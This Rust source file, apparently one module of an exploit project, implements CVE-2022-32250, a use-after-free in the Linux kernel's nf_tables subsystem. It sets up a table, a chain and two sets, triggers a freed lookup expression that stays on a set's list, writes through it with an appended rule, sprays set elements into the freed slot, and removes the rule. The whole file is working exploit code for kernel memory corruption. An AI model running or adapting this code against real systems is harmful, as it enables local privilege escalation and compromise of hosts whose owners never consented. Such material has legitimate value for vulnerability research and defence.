//! CVE-2022-32250: an expression for the elements of a set is made before anybody looks whether it
//! may be one. A lookup binds itself to its set when it is made, and stays on the set's list when it
//! is freed again.

use std::io;

use crate::{attribute::Attributes, netlink::Batch, nft};

const TABLE: &str = "otf_binding";
const CHAIN: &str = "chain";
/// The set whose list has a freed expression on it.
const BOUND: &str = "bound";
/// A set for elements that take the place of the freed expression.
const OTHER: &str = "other";
/// More than there are free places of that size.
const ELEMENTS: u32 = 256;

/// A chain that no packet comes through, and two sets.
pub fn setup() -> io::Result<()> {
    let create = libc::NFT_MSG_NEWSET;
    Batch::new()
        .add(
            libc::NFT_MSG_NEWTABLE,
            nft::IP,
            nft::CREATE,
            &nft::table(TABLE),
        )
        .add(
            libc::NFT_MSG_NEWCHAIN,
            nft::IP,
            nft::CREATE,
            &nft::chain(TABLE, CHAIN),
        )
        .add(
            create,
            nft::IP,
            nft::CREATE,
            &nft::set(TABLE, BOUND, 0, 2, 1),
        )
        .add(
            create,
            nft::IP,
            nft::CREATE,
            &nft::set(TABLE, OTHER, 0, 16, 2),
        )
        .send()
}

/// A lookup that is freed; a rule that is put behind it on the list, by a store into the freed
/// object; elements in its place; and the rule is taken off the list.
pub fn attack() -> io::Result<()> {
    let freed = nft::element(&[0; 16]).nest(7, &nft::lookup(BOUND, nft::REG32_00));
    let refused = add_elements(&[freed]);
    if refused.is_ok() {
        return Err(io::Error::other("a lookup may be part of an element"));
    }
    let expressions = [
        nft::payload(nft::REG32_00, nft::Base::Transport, 2, 2),
        nft::lookup(BOUND, nft::REG32_00),
    ];
    Batch::new()
        .add(
            libc::NFT_MSG_NEWRULE,
            nft::IP,
            nft::APPEND,
            &nft::rule(TABLE, CHAIN, &expressions),
        )
        .send()?;
    let elements: Vec<_> = (1..=ELEMENTS)
        .map(|n| {
            let mut key = [0x5a; 16];
            key[..4].copy_from_slice(&n.to_be_bytes());
            nft::element(&key)
        })
        .collect();
    add_elements(&elements)?;
    let rules = Attributes::new().text(1, TABLE).text(2, CHAIN);
    Batch::new()
        .add(libc::NFT_MSG_DELRULE, nft::IP, 0, &rules)
        .send()
}

fn add_elements(elements: &[Attributes]) -> io::Result<()> {
    let elements = nft::elements(TABLE, OTHER, elements);
    Batch::new()
        .add(libc::NFT_MSG_NEWSETELEM, nft::IP, nft::CREATE, &elements)
        .send()
}
